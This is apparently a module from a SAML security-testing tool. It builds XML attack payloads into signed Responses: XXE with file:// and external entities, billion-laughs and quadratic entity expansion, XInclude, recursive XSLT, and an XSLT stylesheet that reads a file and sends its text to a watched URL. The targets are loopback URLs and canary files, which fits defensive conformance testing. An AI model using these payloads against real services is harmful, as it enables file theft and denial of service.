"""XML: DTDs, entities, XInclude, XSLT, RetrievalMethod and parser limits."""
from __future__ import annotations

import secrets
from typing import Callable

from lxml import etree

from ..builder import DS, SAML, SAMLP, q
from . import Fault, FaultContext, register, register_factory
from ._common import _asig, _assertion, _assertion_signed, _doctype, _iter_tag, _sig


XSLT_NS = "http://www.w3.org/1999/XSL/Transform"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"


def _xslt(root: etree._Element, ctx: FaultContext) -> None:
    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
    ctx.notes["oob_url"] = url
    target = _sig(_assertion(root)) if root.find(q(SAML, "Assertion")) is not None else None
    if target is None:
        target = _sig(root)
    if target is None:
        raise ValueError("xslt-transform needs a signature (sign the assertion or the response)")
    transforms = _iter_tag(target, q(DS, "Transforms"))[0]
    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
    etree.SubElement(tpl, q(XSLT_NS, "copy-of"), select=f"document('{url}')")


register(Fault("xslt-transform",
               "An XSLT Transform in the signature's Reference that fetches a loopback URL the IdP watches",
               ("XML-08", "XML-10"), signed=_xslt))


def _dtd_harmless(xml: bytes, ctx: FaultContext) -> bytes:
    return _doctype(xml, b"<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>")


register(Fault("dtd-harmless", "A harmless internal DTD before the (validly signed) Response", ("XML-01", "SAML2Int SDP-G03"),
               bytes_=_dtd_harmless))


def _dtd_entity(xml: bytes, ctx: FaultContext) -> bytes:
    import html

    name_id = ctx.spec.user.name_id
    esc = html.escape(name_id, quote=False).encode()
    needle = b">" + esc + b"</saml:NameID>"
    if needle not in xml:
        raise ValueError("NameID text not found for the entity reference")
    value = html.escape(name_id, quote=True).encode()
    xml = xml.replace(needle, b">&nameid;</saml:NameID>", 1)
    return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY nameid "' + value + b'">]>')


register(Fault("dtd-internal-entity",
               "Internal DTD entity whose value is the NameID, referenced in NameID (signature valid once expanded)",
               ("XML-01", "XML-05"), bytes_=_dtd_entity))


@register_factory("xxe-external",
                  "External parameter entity pointing at a loopback URL the IdP watches (a fetch by the SP is recorded)",
                  ("XML-02", "XML-04", "CVE-2016-10149"), general=False)
def _xxe(general: bool) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
        url = ctx.idp.oob_url(token, "xxe")
        ctx.notes["oob_url"] = url
        if general:
            xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
            return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{url}">]>'.encode())
        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'.encode())

    return Fault("", "", bytes_=b)


def _retrieval(root: etree._Element, ctx: FaultContext) -> None:
    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "retrieval")
    ctx.notes["oob_url"] = url
    for ki in _iter_tag(root, q(DS, "KeyInfo")):
        for c in list(ki):
            ki.remove(c)
        etree.SubElement(ki, q(DS, "RetrievalMethod"), URI=url,
                         Type="http://www.w3.org/2000/09/xmldsig#X509Data")


register(Fault("retrieval-method", "KeyInfo replaced by a RetrievalMethod pointing at a loopback URL the IdP watches",
               ("XML-12",), signed=_retrieval))


PROBE_ATTR = "urn:samlconf:entity-probe"


def _probe_attribute(value: str) -> Callable[[etree._Element, FaultContext], None]:
    """Before signing: an extra Attribute whose value is what the entities expand to, so the
    signatures cover the expanded text and only the SP's DTD handling decides."""
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        st = _assertion(root).find(q(SAML, "AttributeStatement"))
        if st is None:
            st = etree.SubElement(_assertion(root), q(SAML, "AttributeStatement"))
        at = etree.SubElement(st, q(SAML, "Attribute"), Name=PROBE_ATTR)
        etree.SubElement(at, q(SAML, "AttributeValue")).text = value

    return tree


def _reference_probe(xml: bytes, value: str, ref: bytes) -> bytes:
    needle = b">" + value.encode() + b"</saml:AttributeValue>"
    if needle not in xml:
        raise ValueError("the entity probe attribute was not found in the signed document")
    return xml.replace(needle, b">" + ref + b"</saml:AttributeValue>", 1)


@register_factory("dtd-billion-laughs", "Nested internal entities (10 per level, bounded: default 10^4 x 'lol') in a "
                  "probe AttributeValue, the signatures covering the expanded text (where=assertion); or (where="
                  "extensions) in an attribute of an element in samlp:Extensions, outside the untouched signed "
                  "Assertion: no signature covers it, so only the parser's entity handling decides (CVE-2016-10149: "
                  "pysaml2 < 4.5.0 expands it before any signature check)",
                  ("XML-05", "CVE-2016-10149"), levels=4, where="assertion")
def _laughs(levels: int, where: str) -> Fault:
    n = int(levels)
    if not 1 <= n <= 6:
        raise ValueError("levels must be 1..6 (bounded: 10^6 x 3 bytes at most)")
    if where not in ("assertion", "extensions"):
        raise ValueError("where must be 'assertion' or 'extensions'")
    value = "lol" * 10 ** n

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        ents = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, n + 1)
        ]
        if where == "assertion":
            xml = _reference_probe(xml, value, f"&lol{n};".encode())
        else:  # in an attribute: a libxml2 that keeps entity references can still canonicalize around it
            needle = f'v="{value}"'.encode()
            if needle not in xml:
                raise ValueError("the entity probe element was not found in samlp:Extensions")
            xml = xml.replace(needle, f'v="&lol{n};"'.encode(), 1)
        return _doctype(xml, ("<!DOCTYPE samlp:Response [" + "".join(ents) + "]>").encode())

    def extensions(root: etree._Element, ctx: FaultContext) -> None:
        """Before signing (a signed Response covers the expanded text too): the probe element, right
        after the Response's Issuer."""
        ext = etree.Element(q(SAMLP, "Extensions"))
        etree.SubElement(ext, f"{{{PROBE_ATTR}}}Laughs", nsmap={"p": PROBE_ATTR}, v=value)
        root.find(q(SAML, "Issuer")).addnext(ext)

    return Fault("", "", tree=_probe_attribute(value) if where == "assertion" else extensions, bytes_=b)


def _canary_file(ctx: FaultContext, content: str) -> str:
    """A file on this machine holding `content` (what the SP would read through file://)."""
    import tempfile
    from pathlib import Path

    d = Path(tempfile.gettempdir()) / "samlconf-xxe"
    d.mkdir(mode=0o700, exist_ok=True)
    f = d / f"{ctx.notes.setdefault('oob_token', secrets.token_hex(8))}.txt"
    f.write_text(content, encoding="utf-8")
    f.chmod(0o644)
    return str(f)


@register_factory("xxe-file", "External general entity SYSTEM file:// as the whole NameID; by default a file on this "
                  "machine holding the NameID, so the signatures verify once it is expanded (path= names another file)",
                  ("XML-03", "CVE-2016-10127", "CVE-2017-9672", "CVE-2024-52806"), path=None)
def _xxe_file(path: str | None) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        import html

        if path is None:
            name_id = ctx.spec.user.name_id
            where = _canary_file(ctx, name_id)
            needle = b">" + html.escape(name_id, quote=False).encode() + b"</saml:NameID>"
            if needle not in xml:
                raise ValueError("NameID text not found for the entity reference")
            xml = xml.replace(needle, b">&xxe;</saml:NameID>", 1)
        else:
            where = path
            xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
        ctx.notes["xxe_file"] = where
        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file://{where}">]>'.encode())

    return Fault("", "", bytes_=b)


@register_factory("xinclude", "An xi:include (parse=\"text\") inside the first AttributeValue, after signing; "
                  "href=\"oob\" (default) is a loopback URL the IdP watches",
                  ("XML-07",), href="oob")
def _xinclude(href: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        url = href
        if url == "oob":
            url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xinclude")
            ctx.notes["oob_url"] = url
        av = next(_assertion(root).iter(q(SAML, "AttributeValue")))
        etree.SubElement(av, "{http://www.w3.org/2001/XInclude}include", href=url, parse="text",
                         nsmap={"xi": "http://www.w3.org/2001/XInclude"})

    return Fault("", "", signed=signed)


@register_factory("doctype-system", "A DOCTYPE with only a PUBLIC/SYSTEM identifier, the SYSTEM id a loopback URL the "
                  "IdP watches (no internal subset, nothing referenced; signatures valid)",
                  ("XML-04", "CVE-2017-1000061", "pysaml2 issue #508"), public="-//B/A/EN")
def _doctype_system(public: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "dtd")
        ctx.notes["oob_url"] = url
        return _doctype(xml, f'<!DOCTYPE saml2p:response PUBLIC "{public}" "{url}">'.encode())

    return Fault("", "", bytes_=b, stage_override="pre-sign")


@register_factory("oversize", "The document padded with a comment after the root to N bytes (signatures unaffected)",
                  ("XML-13", "CVE-2025-54572"), size=20_000_000)
def _oversize(size: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        pad = max(0, int(size) - len(xml) - 8)
        return xml + b"\n<!--" + b"x" * pad + b"-->"

    return Fault("", "", bytes_=b)


@register_factory("deep-nesting", "N nested elements inserted at the end of the Response (parser depth limits)",
                  ("XML-14",), depth=100_000)
def _deep(depth: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        n = int(depth)
        return xml.replace(b"</samlp:Response>", b"<x>" * n + b"</x>" * n + b"</samlp:Response>")

    return Fault("", "", bytes_=b)


def _utf16(xml: bytes, ctx: FaultContext) -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return ("<?xml version='1.0' encoding='UTF-16'?>" + body.decode("utf-8")).encode("utf-16")


register(Fault("encoding-utf16", "The whole document in UTF-16 with a BOM (same content; signatures still valid)",
               ("XML-15",), bytes_=_utf16, stage_override="pre-sign"))


@register_factory("dtd-quadratic", "One internal entity referenced many times in a probe AttributeValue (quadratic "
                  "blowup, bounded: default 1 000 bytes x 100); the signatures cover the expanded text",
                  ("XML-06",), size=1000, count=100)
def _quadratic(size: int, count: int) -> Fault:
    if int(size) * int(count) > 4_000_000:
        raise ValueError("size x count must stay under 4 MB (bounded)")
    value = "x" * int(size) * int(count)

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = _reference_probe(xml, value, b"&a;" * int(count))
        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY a "' + b"x" * int(size) + b'">]>')

    return Fault("", "", tree=_probe_attribute(value), bytes_=b)


def _recursive_stylesheet(transforms: etree._Element, n: int, probe_url: str | None = None) -> None:
    """Oblique's exponential template: `d` calls itself twice with n-1 (2^n calls). With `probe_url`,
    each call at n=0 also reads that URL with document(): an SP that runs the transform fetches it."""
    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
    main = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
    call = etree.SubElement(main, q(XSLT_NS, "call-template"), name="d")
    etree.SubElement(call, q(XSLT_NS, "with-param"), name="n", select=str(n))
    d = etree.SubElement(ss, q(XSLT_NS, "template"), name="d")
    etree.SubElement(d, q(XSLT_NS, "param"), name="n")
    choose = etree.SubElement(d, q(XSLT_NS, "choose"))
    when = etree.SubElement(choose, q(XSLT_NS, "when"), test="$n > 0")
    for _ in range(2):
        c = etree.SubElement(when, q(XSLT_NS, "call-template"), name="d")
        etree.SubElement(c, q(XSLT_NS, "with-param"), name="n", select="$n - 1")
    if probe_url:
        other = etree.SubElement(choose, q(XSLT_NS, "otherwise"))
        etree.SubElement(other, q(XSLT_NS, "copy-of"), select=f"document('{probe_url}')")


def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
    _recursive_stylesheet(_iter_tag(_asig(root), q(DS, "Transforms"))[0], 27)


@register_factory("xslt-recursive-probe",
                  "The exponential XSLT template of xslt-dos at a harmless depth n (2^n calls), each leaf reading a "
                  "loopback URL the IdP watches with document(): shows whether the SP runs the transform at all",
                  ("XML-09",), n=4)
def _xslt_probe(n: int) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
        ctx.notes["oob_url"] = url
        _recursive_stylesheet(_iter_tag(_asig(root), q(DS, "Transforms"))[0], min(max(n, 0), 8), url)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xslt_saml_raider(root: etree._Element, ctx: FaultContext) -> None:
    """SAML Raider's XSLT attack: a ds:Transform (no Algorithm) holding an XSLT 2.0 stylesheet that
    reads a file with unparsed-text() and requests attacker URL + the file's text, appended to the
    first ds:Transforms of the document. The file is a canary on this machine, not /etc/passwd."""
    token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
    url = ctx.idp.oob_url(token, "xslt") + "?d="
    ctx.notes["oob_url"] = url
    canary = _canary_file(ctx, "samlconf-xslt-canary-" + token)
    transforms = _iter_tag(root, q(DS, "Transforms"))
    if not transforms:
        raise ValueError("xslt-saml-raider needs a signature")
    t = etree.SubElement(transforms[0], q(DS, "Transform"))
    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS})
    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="doc")
    for name, select in (("file", f"unparsed-text('{canary}')"), ("escaped", "encode-for-uri($file)"),
                         ("attackerUrl", f"'{url}'"), ("exploitUrl", "concat($attackerUrl,$escaped)")):
        etree.SubElement(tpl, q(XSLT_NS, "variable"), name=name, select=select)
    etree.SubElement(tpl, q(XSLT_NS, "value-of"), select="unparsed-text($exploitUrl)")


register(Fault("xslt-saml-raider",
               "SAML Raider's XSLT attack: an XSLT 2.0 stylesheet (unparsed-text of a canary file, sent to a watched "
               "loopback URL) in a ds:Transform appended to the document's first ds:Transforms, after signing",
               ("XML-08", "SAML Raider XSLT attack"), signed=_xslt_saml_raider))


register(Fault("xslt-dos", "An XSLT Transform with an exponential recursive template (2^27 calls) in the Assertion signature",
               ("XML-09",), signing=_assertion_signed(), signed=_xslt_dos))


# ============================================================================= namespace confusion (ruby-saml class)
